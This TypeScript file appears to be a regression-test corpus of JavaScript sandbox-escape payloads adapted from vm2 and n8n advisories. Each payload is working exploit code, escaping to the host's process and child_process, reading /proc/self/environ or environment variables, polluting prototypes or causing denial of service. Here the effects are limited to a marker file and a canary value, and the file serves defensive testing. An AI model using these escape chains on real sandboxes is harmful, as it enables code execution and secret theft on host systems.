// Known sandbox-escape payloads, adapted to Gigaflow's sandbox.
//
// Sources: the GitHub security advisories of vm2 (and the regression tests vm2 ships for them in
// test/vm.js and test/ghsa/*/repro.js), vm2 issues, and n8n's expression-sandbox advisories (payload
// shapes as in n8n's regression tests packages/workflow/test/expression-sandboxing.test.ts; where an
// advisory's exact payload is not public the id says which advisory the shape belongs to and the
// title says "shape").
//
// Every payload is a function body (it may `return` and `await`). If it escaped, it would reach the
// host through one of: the host `Function` constructor -> `process`, reading
// process.env.GIGAFLOW_CANARY, setting globalThis.__pwned in the HOST realm, or
// require('child_process') touching the file __MARKER__ (replaced by the test with a temp path).
// Nothing here is harmful outside a sandbox beyond creating that empty marker file.

export interface EscapePayload {
  /** Advisory id (GHSA-… / CVE-…), or vm2 issue / class name for payloads without an advisory. */
  id: string;
  title: string;
  code: string;
}

/** Escalation used once a payload believes it holds a host `Function` constructor `F`. */
export const ESCALATE = (F: string) => `
  const __proc = (${F})("globalThis.__pwned = true; return process")();
  try { __proc.mainModule.require("child_process").execSync("touch __MARKER__"); } catch (__e) {}
  try { __proc.getBuiltinModule("child_process").execSync("touch __MARKER__"); } catch (__e) {}
  return __proc.env.GIGAFLOW_CANARY;`;

export const escapeCorpus: EscapePayload[] = [
  // ------------------------------------------------------------------------------------------
  // vm2 advisories
  {
    id: 'CVE-2023-29017 / GHSA-7jxr-cg7f-gpgv',
    title: 'vm2: Error.prepareStackTrace receives host CallSites for async errors',
    code: `
      let leaked;
      try { Error.prepareStackTrace = (e, frames) => { leaked = frames; return ''; }; } catch (e) {}
      try { (async () => {}).constructor('return process')(); } catch (e) {}
      new Error('x').stack;
      if (leaked) { const F = leaked.constructor.constructor; ${ESCALATE('F')} }
      return 'prepareStackTrace not called';`,
  },
  {
    id: 'CVE-2023-29199 / GHSA-xj72-wvfv-8985',
    title: 'vm2: transformer bypass, host error from stack overflow caught under a renamed catch binding',
    code: `
      try { aVM2_INTERNAL_TMPNAME = {}; } catch (e) {}
      function stack() { new Error().stack; stack(); }
      try { stack(); } catch (a$tmpname) { const F = a$tmpname.constructor.constructor; ${ESCALATE('F')} }`,
  },
  {
    id: 'CVE-2023-30547 / GHSA-ch3r-j5x3-6q2m',
    title: 'vm2: exception sanitization bypass with a Proxy whose getPrototypeOf overflows the stack',
    code: `
      const err = {};
      const handler = { getPrototypeOf(target) { (function stack() { new Error().stack; stack(); })(); } };
      const proxiedErr = new Proxy(err, handler);
      try { throw proxiedErr; } catch ({ constructor: c }) { const F = c.constructor; ${ESCALATE('F')} }`,
  },
  {
    id: 'CVE-2023-32313 / GHSA-p5gc-c584-jj6v',
    title: 'vm2: inspect manipulation (util.inspect showProxy reaches host objects)',
    code: `
      const obj = new Proxy({}, {});
      const seen = [];
      try { Buffer.prototype.inspect.call(obj, 1, { showProxy: true, stylize(s) { seen.push(s); return s; } }); } catch (e) {}
      try { const F = seen[0].constructor.constructor; ${ESCALATE('F')} } catch (e) {}
      return seen.length;`,
  },
  {
    id: 'CVE-2023-32314 / GHSA-whpj-8f3w-67p5',
    title: 'vm2: Proxy specification bypass through err.name.toString during stack formatting',
    code: `
      const err = new Error();
      try {
        err.name = { toString: new Proxy(() => '', { apply(target, thiz, args) {
          const F = args.constructor.constructor;
          const p = F('globalThis.__pwned = true; return process')();
          throw p.env.GIGAFLOW_CANARY;
        } }) };
      } catch (e) {}
      try { return err.stack; } catch (stdout) { return stdout; }`,
  },
  {
    id: 'CVE-2023-37466 / GHSA-cchq-frgv-rjh5',
    title: 'vm2: Promise handler sanitization bypass via Symbol.species',
    code: `
      async function fn() { (function stack() { new Error().stack; stack(); })(); }
      const p = fn();
      try {
        p.constructor = { [Symbol.species]: class FakePromise { constructor(executor) {
          executor((x) => x, (err) => { const F = err.constructor.constructor; ${ESCALATE('F')} });
        } } };
      } catch (e) {}
      p.then();
      return 'species attempted';`,
  },
  {
    id: 'CVE-2023-37903 / GHSA-g644-9gfx-q4q4',
    title: 'vm2: custom inspect function (nodejs.util.inspect.custom) through WebAssembly.compileStreaming',
    code: `
      const customInspectSymbol = Symbol.for('nodejs.util.inspect.custom');
      const obj = {
        [customInspectSymbol]: (depth, opt, inspect) => { const F = inspect.constructor; ${ESCALATE('F')} },
        valueOf: undefined,
        constructor: undefined,
      };
      WebAssembly.compileStreaming(obj).catch(() => {});
      return 'sent';`,
  },
  {
    id: 'CVE-2022-36067 / GHSA-mrgp-mrhc-5jrq',
    title: 'vm2 "SandBreak": replace the global Error and set prepareStackTrace to reach CallSite.getThis()',
    code: `
      globalThis.OldError = globalThis.Error;
      try { Error = {}; } catch (e) {}
      try { Error.prepareStackTrace = (errStr, traces) => { const t = traces[0].getThis(); const F = t.constructor.constructor; ${ESCALATE('F')} }; } catch (e) {}
      const { stack } = new OldError();
      return String(stack);`,
  },
  {
    id: 'CVE-2021-23449',
    title: 'vm2: dynamic import() returns a host promise',
    code: `
      const res = import('./foo.js');
      res.catch(() => {});
      const F = res.toString.constructor;
      ${ESCALATE('F')}`,
  },
  {
    id: 'CVE-2019-10761',
    title: 'vm2: host RangeError from a stack overflow inside a host call leaks host constructors',
    code: `
      function r(i) {
        try { return r(i + 1); } catch (e) {
          try { return $('Webhook').all(); } catch (hostErr) { return hostErr; }
        }
      }
      const e = r(0);
      const F = e.constructor.constructor;
      ${ESCALATE('F')}`,
  },
  {
    id: 'CVE-2022-25893',
    title: 'vm2: WeakMap.prototype.set override captures host objects passed by the bridge',
    code: `
      const captured = [];
      try { WeakMap.prototype.set = function (k, v) { captured.push(k, v); return this; }; } catch (e) {}
      try { Map.prototype.get = function (k) { captured.push(k); }; } catch (e) {}
      $input.all(); $('Webhook').first(); $now.plus(1, 'day');
      for (const c of captured) { try { const F = c.constructor.constructor; ${ESCALATE('F')} } catch (e) {} }
      return captured.length;`,
  },
  {
    id: 'GHSA-grj5-jjm8-h35p',
    title: 'vm2: __lookupGetter__("__proto__") applied through Function.prototype.apply walks to host Object',
    code: `
      const g = ({}).__lookupGetter__;
      const a = Function.prototype.apply;
      const p = a.apply(g, [DateTime, ['__proto__']]);
      const F = p.call(a).constructor;
      ${ESCALATE('F')}`,
  },
  {
    id: 'GHSA-55hx-c926-fr95',
    title: 'vm2: SuppressedError from DisposableStack smuggles a host error',
    code: `
      const ds = new DisposableStack();
      ds.defer(() => { throw null; });
      ds.defer(() => { const e = Error(); e.name = Symbol(); e.stack; });
      try { ds.dispose(); } catch (e) {
        const inner = e && (e.suppressed || e.error || e);
        const F = inner.constructor.constructor;
        ${ESCALATE('F')}
      }
      return 'no SuppressedError';`,
  },
  {
    id: 'GHSA-55hx-c926-fr95 (using variant)',
    title: 'vm2: SuppressedError via a `using` declaration whose disposer throws',
    code: `
      try {
        (() => {
          using x = { [Symbol.dispose]() { throw new Error('dispose'); } };
          throw null;
        })();
      } catch (e) {
        const F = (e && e.suppressed ? e.suppressed : e).constructor.constructor;
        ${ESCALATE('F')}
      }
      return 'no error';`,
  },
  {
    id: 'GHSA-v37h-5mfm-c47c',
    title: 'vm2: harvest a proxy handler (util.inspect showProxy) and reconstruct it',
    code: `
      let handler;
      try { handler = Object.getOwnPropertyDescriptor($node, 'handler'); } catch (e) {}
      const targets = [$node, $input, DateTime, $];
      for (const t of targets) {
        try { const pp = Object.getPrototypeOf(Object.getPrototypeOf(t)); const F = pp.constructor.constructor; ${ESCALATE('F')} } catch (e) {}
      }
      return String(handler);`,
  },
  {
    id: 'GHSA-qvjj-29qf-hp7p',
    title: 'vm2: breakout through Promise species on a subclass',
    code: `
      let leaked;
      class P extends Promise { static get [Symbol.species]() { return function (exec) { exec((v) => v, (e) => { leaked = e; }); }; } }
      const p = P.reject(new Error('x'));
      p.then(() => {});
      await null; await null;
      if (leaked) { const F = leaked.constructor.constructor; ${ESCALATE('F')} }
      return 'species';`,
  },
  {
    id: 'CVE-2026-22709 / GHSA-99p7-6v5w-7xg8',
    title: 'vm2: Promise.prototype.then/catch callback sanitization bypass with a Symbol-named error',
    code: `
      const error = new Error();
      error.name = Symbol();
      const f = async () => error.stack;
      return await f().catch((e) => { const F = e.constructor.constructor; ${ESCALATE('F')} });`,
  },
  {
    id: 'GHSA-ffh4-j6h5-pg66',
    title: 'vm2: WebAssembly-based sandbox escape (instantiate a module with host imports)',
    code: `
      const bytes = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]);
      const mod = new WebAssembly.Module(bytes);
      const inst = new WebAssembly.Instance(mod, { env: { f: () => 0 } });
      const F = inst.constructor.constructor;
      ${ESCALATE('F')}`,
  },
  {
    id: 'GHSA-hw58-p9xv-2mjh',
    title: 'vm2: unhandled rejection from a Symbol-named error terminates the host (DoS)',
    code: `
      new Promise((r, j) => { const e = new Error(); e.name = Symbol(); e.stack; });
      (async function () { const e = new Error(); e.name = Symbol(); e.stack; })();
      (async function* () { throw Symbol('x'); })().next();
      Promise.reject(new Error('unhandled on purpose'));
      return 'scheduled';`,
  },
  {
    id: 'GHSA-v27g-jcqj-v8rw',
    title: 'vm2: CallSite getters leak host file paths through prepareStackTrace',
    code: `
      const out = [];
      try { Error.prepareStackTrace = (e, s) => s.map((c) => [c.getFileName(), c.getFunctionName(), String(c.getThis && c.getThis())]); } catch (e) {}
      try { $('Nope'); } catch (e) { out.push(e.stack); }
      try { null.x; } catch (e) { out.push(e.stack); }
      const e2 = {}; Error.captureStackTrace(e2); out.push(e2.stack);
      return out;`,
  },
  {
    id: 'GHSA-vwrp-x96c-mhwq',
    title: 'vm2: host intrinsic prototype pollution through a __proto__ walk',
    code: `
      const g = ({}).__lookupGetter__;
      const p = Function.prototype.apply.apply(g, [$, ['__proto__']]);
      const targets = [p.call(p.call(p.call($))), Object.prototype, ({}).__proto__, [].__proto__.__proto__];
      for (const t of targets) { try { t.__gigaflowPolluted = 'polluted'; } catch (e) {} try { Object.defineProperty(t, 'toJSON', { value: () => 'polluted' }); } catch (e) {} }
      return ({}).__gigaflowPolluted;`,
  },
  {
    id: 'GHSA-9vg3-4rfj-wgcm',
    title: 'vm2: null-prototype object thrown and caught, then host function written through it',
    code: `
      const o = { __proto__: null };
      try { throw o; } catch (e) { try { e.f = $input.all; e.g = DateTime.now; } catch (x) {} }
      const F = (o.f || o.g).constructor;
      ${ESCALATE('F')}`,
  },
  {
    id: 'GHSA-9qj6-qjgg-37qq',
    title: 'vm2: Array.prototype[0] setter captures internal bridge state',
    code: `
      const captured = [];
      try { Object.defineProperty(Array.prototype, 0, { configurable: true, set(v) { captured.push(v); }, get() { return undefined; } }); } catch (e) {}
      try { Object.defineProperty(Object.prototype, 'get', { get() { captured.push(this); } }); } catch (e) {}
      $input.all(); $('Webhook').all();
      for (const c of captured) { try { const F = c.constructor.constructor; ${ESCALATE('F')} } catch (e) {} }
      return captured.length;`,
  },
  {
    id: 'GHSA-2cm2-m3w5-gp2f / GHSA-wp5r-2gw5-m7q7',
    title: 'vm2: internal state reachable as a global through bracket access / enumeration',
    code: `
      const found = [];
      for (const name of Reflect.ownKeys(globalThis)) {
        let v; try { v = globalThis[name]; } catch (e) { continue; }
        if (typeof v === 'function' || (v && typeof v === 'object')) {
          try { const F = v.constructor.constructor; const p = F('return typeof process')(); if (p !== 'undefined') found.push(String(name)); } catch (e) {}
        }
      }
      if (found.length) { ${ESCALATE('globalThis[found[0]].constructor.constructor')} }
      return found;`,
  },
  {
    id: 'GHSA-47x8-96vw-5wg6',
    title: 'vm2: cross-realm Symbol.for("nodejs.util.inspect.custom") planted on returned data',
    code: `
      const sym = Symbol.for('nodejs.util.inspect.custom');
      const rej = Symbol.for('nodejs.rejection');
      const payload = { [sym]: (d, o, inspect) => { ${ESCALATE('inspect.constructor')} }, [rej]: () => {}, toString() { return 'x'; } };
      return { payload, list: [payload] };`,
  },
  {
    id: 'GHSA-mpf8-4hx2-7cjg',
    title: 'vm2: host promise resolution delivers host objects to a sandbox .then callback',
    code: `
      const v = await Promise.resolve($input).then((x) => x);
      const F = v.constructor.constructor;
      ${ESCALATE('F')}`,
  },
  {
    id: 'GHSA-947f-4v7f-x2v8',
    title: "vm2 NodeVM: builtin allowlist bypass with require('module')._load",
    code: `
      const Module = require('module');
      const cp = Module._load('child_process');
      cp.execSync('touch __MARKER__');
      return process.env.GIGAFLOW_CANARY;`,
  },
  {
    id: 'GHSA-8hg8-63c5-gwmx',
    title: "vm2 NodeVM: nesting lets the sandbox require('vm2') and build an unconstrained VM",
    code: `
      const { NodeVM } = require('vm2');
      return new NodeVM({ require: { builtin: ['child_process'] } }).run('module.exports = process.env.GIGAFLOW_CANARY');`,
  },
  {
    id: 'GHSA-cp6g-6699-wx9c',
    title: 'vm2 NodeVM: require.root symlink bypass loads files outside the root',
    code: `
      return require('/proc/self/environ').toString();`,
  },
  {
    id: 'GHSA-6785-pvv7-mvg7',
    title: 'vm2: unbounded Buffer.alloc host allocation (DoS) — sandbox-side equivalent',
    code: `
      const out = [];
      try { out.push(Buffer.alloc(1024 * 1024 * 1024).length); } catch (e) { out.push(e.message); }
      try { out.push(new ArrayBuffer(2 ** 32).byteLength); } catch (e) { out.push(e.message); }
      try { out.push(new Uint8Array(1024 * 1024 * 1024).length); } catch (e) { out.push(e.message); }
      return out;`,
  },
  {
    id: 'CVE-2026-45411',
    title: 'vm2: attacker-controlled yield* inside an async generator (shape)',
    code: `
      async function* g() {
        yield* { [Symbol.asyncIterator]() { return { next() { const e = new Error(); e.name = Symbol(); return e.stack; } }; } };
      }
      try { for await (const x of g()) {} } catch (e) { const F = e.constructor.constructor; ${ESCALATE('F')} }
      return 'done';`,
  },
  // ------------------------------------------------------------------------------------------
  // vm2 issues (no advisory id)
  {
    id: 'vm2 issue #174',
    title: 'vm2: instanceof attack — Proxy getPrototypeOf throwing a function that receives a host object',
    code: `
      try {
        throw new Proxy({}, { getPrototypeOf: () => { throw (x) => x.constructor.constructor('globalThis.__pwned = true; return process')(); } });
      } catch (e) {
        try { if (e instanceof Error) {} } catch (f) { if (typeof f === 'function') { const p = f(() => {}); return p.env.GIGAFLOW_CANARY; } }
      }
      return 'no host object';`,
  },
  {
    id: 'vm2 issue #176',
    title: 'vm2: __defineGetter__ on shared prototypes to hijack host-side serialization',
    code: `
      try { Object.prototype.__defineGetter__('toJSON', function () { return process.env.GIGAFLOW_CANARY; }); } catch (e) {}
      try { Array.prototype.__defineGetter__('length', () => 0); } catch (e) {}
      try { globalThis.__defineGetter__('$json', () => ({ hijacked: true })); } catch (e) {}
      return { a: 1 };`,
  },
  {
    id: 'vm2 issue #184',
    title: 'vm2: __lookupGetter__ / __lookupSetter__ to extract internal accessors',
    code: `
      const getters = [];
      for (const name of ['$json', '$input', '$now', '$execution', '__proto__']) {
        try { getters.push(globalThis.__lookupGetter__(name)); } catch (e) {}
        try { getters.push(Object.prototype.__lookupGetter__.call(globalThis, name)); } catch (e) {}
      }
      for (const gt of getters) { if (typeof gt === 'function') { try { const F = gt.constructor; ${ESCALATE('F')} } catch (e) {} } }
      return getters.length;`,
  },
  {
    id: 'vm2 issues #175 #177 #186',
    title: 'vm2: contextifying attacks — Object.prototype "get"/"set" traps fired by host property descriptors',
    code: `
      let process;
      try {
        Object.defineProperty(Object.prototype, 'get', { get() { throw (f) => f.constructor('globalThis.__pwned = true; return process')(); } });
      } catch (e) {}
      try { Object.defineProperty($input, 'x', { value: 1 }); $input.all(); } catch (e) { if (typeof e === 'function') process = e(() => {}); }
      return process && process.env.GIGAFLOW_CANARY;`,
  },
  {
    id: 'vm2 test "Monkey patching attack"',
    title: 'vm2: override Function.prototype.call/apply/bind to capture functions the host calls',
    code: `
      const captured = [];
      const desc = { get() { captured.push(this); return undefined; }, set() {} };
      try { Object.defineProperties(Function.prototype, { call: desc, apply: desc, bind: desc }); } catch (e) {}
      try { Function.prototype.call = function (...a) { captured.push(this); }; } catch (e) {}
      $input.all(); $('Webhook').first(); "x".hash("sha256");
      for (const c of captured) { try { const F = c.constructor; ${ESCALATE('F')} } catch (e) {} }
      return captured.length;`,
  },
  {
    id: 'vm2 test "Symbol.hasInstance attack"',
    title: 'vm2: override Symbol.hasInstance to receive objects checked by the bridge',
    code: `
      const seen = [];
      try { Object.defineProperty(Function.prototype, Symbol.hasInstance, { value(v) { seen.push(v); return false; } }); } catch (e) {}
      try { Object.defineProperty(Object, Symbol.hasInstance, { value(v) { seen.push(v); return true; } }); } catch (e) {}
      try { $('Nope'); } catch (e) {}
      for (const v of seen) { try { const F = v.constructor.constructor; ${ESCALATE('F')} } catch (e) {} }
      return seen.length;`,
  },
  // ------------------------------------------------------------------------------------------
  // n8n expression / Code node advisories
  {
    id: 'CVE-2025-68613 / GHSA-v98v-ff95-f3cp',
    title: 'n8n: `this` inside a function expression is the host global (process.mainModule.require)',
    code: `
      return (function () { return this.process.mainModule.require('child_process').execSync('touch __MARKER__ && echo $GIGAFLOW_CANARY').toString(); })();`,
  },
  {
    id: 'CVE-2025-68613 / GHSA-v98v-ff95-f3cp (arrow/globalThis variant)',
    title: 'n8n: `this` in arrow functions and globalThis expose process.env',
    code: `
      const a = (() => this)();
      const b = (() => globalThis)();
      return [a && a.process && a.process.env.GIGAFLOW_CANARY, b && b.process && b.process.env.GIGAFLOW_CANARY, ((p) => p.env)(((g) => g.process)((() => globalThis)())).GIGAFLOW_CANARY];`,
  },
  {
    id: 'CVE-2026-1470',
    title: 'n8n: `with` statement resolves `constructor` from a function object to reach Function',
    code: `
      return (function () { var constructor = 123; with (function () {}) { return constructor('globalThis.__pwned = true; return process.env.GIGAFLOW_CANARY + process.mainModule.require("child_process").execSync("touch __MARKER__")')(); } })();`,
  },
  {
    id: 'CVE-2026-25049 / GHSA-6cqr-8cfr-67f8',
    title: 'n8n: destructuring `constructor` (plain, aliased and computed) bypasses the member-access sanitizer',
    code: `
      const { constructor } = () => {};
      const { constructor: c } = function () {};
      const k = 'constructor';
      const { [k]: d } = {};
      const results = [];
      for (const F of [constructor, c, d.constructor]) { try { results.push(F('globalThis.__pwned = true; return process')().env.GIGAFLOW_CANARY); } catch (e) { results.push(e.message); } }
      return results;`,
  },
  {
    id: 'CVE-2026-25049 / GHSA-6cqr-8cfr-67f8 (class extends Function)',
    title: 'n8n: class extending Function / AsyncFunction / GeneratorFunction compiles attacker code',
    code: `
      class Z extends Function {}
      const AsyncFunction = (async () => {}).constructor;
      class Y extends AsyncFunction {}
      class X extends (0, Function) {}
      const out = [];
      for (const K of [Z, X]) { try { out.push(new K('globalThis.__pwned = true; return process')().env.GIGAFLOW_CANARY); } catch (e) { out.push(e.message); } }
      try { out.push(await new Y('return process.env.GIGAFLOW_CANARY')()); } catch (e) { out.push(e.message); }
      return out;`,
  },
  {
    id: 'CVE-2026-27577',
    title: "n8n: spreading `process` into an object and calling getBuiltinModule('child_process')",
    code: `
      return ((g) => g.getBuiltinModule('child_process').execSync('touch __MARKER__; echo $GIGAFLOW_CANARY').toString())({ ...process });`,
  },
  {
    id: 'CVE-2026-27577 (computed-key variants)',
    title: 'n8n: array / template-literal / concatenated keys reach constructor, __proto__ and prepareStackTrace',
    code: `
      const out = [];
      try { out.push(({})[['toString']][['constructor']]('globalThis.__pwned = true; return process')().env.GIGAFLOW_CANARY); } catch (e) { out.push(e.message); }
      try { out.push(Number[\`constr\${'uct'}or\`]('return process')().env.GIGAFLOW_CANARY); } catch (e) { out.push(e.message); }
      try { out.push(({})['__' + 'proto' + '__']['const' + 'ructor']['const' + 'ructor']('return process')().env.GIGAFLOW_CANARY); } catch (e) { out.push(e.message); }
      try { Error[['prepareStackTrace']] = (e, s) => s[0].getThis(); out.push(typeof new Error().stack); } catch (e) { out.push(e.message); }
      return out;`,
  },
  {
    id: 'CVE-2026-27495',
    title: 'n8n: JavaScript task-runner sandbox escape (Code-node shapes: require, process.binding, module._load; exact payload not public)',
    code: `
      const out = [];
      try { out.push(require('child_process').execSync('touch __MARKER__').toString()); } catch (e) { out.push(e.message); }
      try { out.push(process.binding('spawn_sync')); } catch (e) { out.push(e.message); }
      try { out.push(module.constructor._load('child_process')); } catch (e) { out.push(e.message); }
      try { out.push(globalThis.constructor.constructor('return process')().env.GIGAFLOW_CANARY); } catch (e) { out.push(e.message); }
      try { out.push(Buffer.from('x').constructor.constructor('return process')().env.GIGAFLOW_CANARY); } catch (e) { out.push(e.message); }
      return out;`,
  },
  // ------------------------------------------------------------------------------------------
  // Generic techniques (no single advisory)
  {
    id: 'generic: constructor chain',
    title: "classic this.constructor.constructor('return process')()",
    code: `
      const F = this.constructor.constructor;
      ${ESCALATE('F')}`,
  },
  {
    id: 'generic: Reflect.construct',
    title: 'Reflect.construct(Function, ...) and Function.prototype.constructor',
    code: `
      const F = Reflect.construct(Function, ['return Function'])();
      ${ESCALATE('F')}`,
  },
  {
    id: 'generic: arguments.callee.caller',
    title: 'walk callers (arguments.callee.caller / fn.caller) out of a callback the runtime invokes',
    code: `
      const callers = [];
      const o = { toJSON: function tj() { try { callers.push(tj.caller, arguments.callee.caller); } catch (e) { callers.push(e.message); } return 1; } };
      JSON.stringify(o);
      [1].map(function cb() { try { callers.push(cb.caller); } catch (e) {} });
      for (const c of callers) { if (typeof c === 'function') { try { const F = c.constructor; ${ESCALATE('F')} } catch (e) {} } }
      return callers.map(String);`,
  },
  {
    id: 'generic: host callbacks with hostile arguments',
    title: 'call the data bridge with objects, Proxies, Symbols and huge values to get host errors back',
    code: `
      const hostile = [{ toString() { throw new Error('x'); } }, new Proxy({}, { get() { throw new Error('trap'); } }), Symbol('s'), 'x'.repeat(5000), -1, 1e300, NaN, null];
      const errors = [];
      for (const h of hostile) {
        try { $(h); } catch (e) { errors.push(e); }
        try { $('Webhook').all(h, h); } catch (e) { errors.push(e); }
        try { $('Webhook').itemMatching(h); } catch (e) { errors.push(e); }
        try { $items(h); } catch (e) { errors.push(e); }
        try { 'x'.hash(h); } catch (e) { errors.push(e); }
      }
      for (const e of errors) { try { const F = e.constructor.constructor; const p = F('return typeof process')(); if (p !== 'undefined') { ${ESCALATE('F')} } } catch (x) {} }
      return errors.map((e) => String(e && e.message));`,
  },
  {
    id: 'generic: Proxy result',
    title: 'return a Proxy / getter-laden object so traps run while the host copies the result',
    code: `
      const trap = { get(t, k) { try { return k === 'then' ? undefined : Function('return process')(); } catch (e) { return e.message; } }, ownKeys() { return ['a']; }, getOwnPropertyDescriptor() { return { value: 1, enumerable: true, configurable: true }; } };
      return { p: new Proxy({}, trap), get g() { return this.constructor.constructor('return process')(); } };`,
  },
  {
    id: 'generic: SharedArrayBuffer / Atomics',
    title: 'Atomics.wait to block the host thread; SharedArrayBuffer for shared memory with the host',
    code: `
      const sab = new SharedArrayBuffer(16);
      Atomics.wait(new Int32Array(sab), 0, 0, 100000);
      return 'waited';`,
  },
  {
    id: 'generic: eval',
    title: 'indirect eval of global script code',
    code: `
      return (0, eval)('this.process.env.GIGAFLOW_CANARY');`,
  },
  {
    id: 'generic: stale evaluation objects',
    title: 'keep $input / $ of one evaluation and use them after it ended, via a global or a pending promise',
    code: `
      const keep = { input: $input, node: $('Webhook'), dollar: $ };
      try { globalThis.__kept = keep; } catch (e) {}
      Promise.resolve().then(() => { try { keep.input.all(); } catch (e) {} });
      return 'kept';`,
  },
  {
    id: 'generic: reachable-graph sweep',
    title: 'walk everything reachable from globalThis and the data objects, looking for host functions or isolated-vm handles',
    code: `
      const roots = [globalThis, $input, $('Webhook'), $node, $now, $input.all(), $('Webhook').all(), $execution, $workflow, $vars, $, $items, DateTime, Duration, Interval];
      const seen = new Set();
      const queue = [...roots];
      const findings = [];
      while (queue.length > 0 && seen.size < 50000) {
        const o = queue.pop();
        if (o === null || o === undefined || (typeof o !== 'object' && typeof o !== 'function') || seen.has(o)) continue;
        seen.add(o);
        if (typeof o === 'function') {
          try { if (o.constructor('return typeof process')() !== 'undefined') findings.push('host Function'); } catch (e) {}
        }
        for (const m of ['applySync', 'apply', 'derefInto', 'deref', 'copySync', 'getSync', 'setSync']) {
          try { if (typeof o[m] === 'function' && /native code/.test(String(o[m])) && m !== 'apply') findings.push('handle method ' + m); } catch (e) {}
        }
        let keys = [];
        try { keys = Reflect.ownKeys(o); } catch (e) {}
        for (const k of keys) {
          let d;
          try { d = Object.getOwnPropertyDescriptor(o, k); } catch (e) { continue; }
          if (!d) continue;
          if ('value' in d) queue.push(d.value); else queue.push(d.get, d.set);
        }
        try { queue.push(Object.getPrototypeOf(o)); } catch (e) {}
      }
      for (const o of seen) {
        // An isolated-vm handle to a host object would give the host value away through copySync().
        try { if (typeof o.copySync === 'function') { const v = o.copySync(); findings.push(String(v && v.GIGAFLOW_CANARY)); } } catch (e) {}
      }
      return { visited: seen.size > 500, findings };`,
  },
  {
    id: 'generic: host paths in stacks',
    title: 'read stack traces and Function.prototype.toString of runtime functions for host information',
    code: `
      const info = [];
      try { $('Nope'); } catch (e) { info.push(e.stack); }
      info.push(String($), String($input.all), String(Object.getOwnPropertyDescriptor(globalThis, '$json').get));
      info.push(new Error('probe').stack);
      return info.join('\\n');`,
  },
];
